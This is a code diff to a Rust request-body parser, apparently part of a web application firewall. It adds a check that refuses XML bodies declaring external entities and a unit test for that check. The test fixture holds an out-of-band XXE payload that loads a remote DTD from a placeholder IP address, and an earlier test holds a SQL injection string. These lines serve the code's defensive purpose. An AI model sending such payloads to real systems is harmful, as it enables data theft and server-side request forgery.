@@ -406,6 +406,16 @@ impl RequestData {
                         }
                     }
                 }
+                Ok(Event::DocType(e)) => {
+                    if let Some(name) = super::xml_dtd::external_entity(&String::from_utf8_lossy(&e)) {
+                        let msg = format!(
+                            "XML body declares the external entity '{name}' (out-of-band XXE: a \
+                             parser that honours the DTD fetches it); refused"
+                        );
+                        self.body_error = Some(msg.clone());
+                        return Err(msg);
+                    }
+                }
                 Ok(Event::Eof) => break,
                 Ok(_) => {}
                 Err(e) => {
@@ -685,6 +695,14 @@ mod tests {
         assert_eq!(req.args_post.get("xml.s:Envelope.s:Body.link.@href"), Some(vec!["/a"]));
         assert_eq!(req.args_post.get("xml.s:Envelope.s:Body.q"), Some(vec!["1' or 1=1"]));
         assert!(req.args_post.all().iter().all(|(name, _)| !name.contains("xmlns")), "no namespace declarations");
+    }
+
+    #[test]
+    fn an_xml_body_declaring_an_external_entity_is_a_body_error() {
+        let mut req = RequestData::new();
+        req.append_body(b"<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><t>hi</t></xml>");
+        assert!(req.parse_xml_body().unwrap_err().contains("'%remote'"));
+        assert!(req.body_error.is_some(), "REQBODY_ERROR: 200002 refuses it");
     }
 
     #[test]
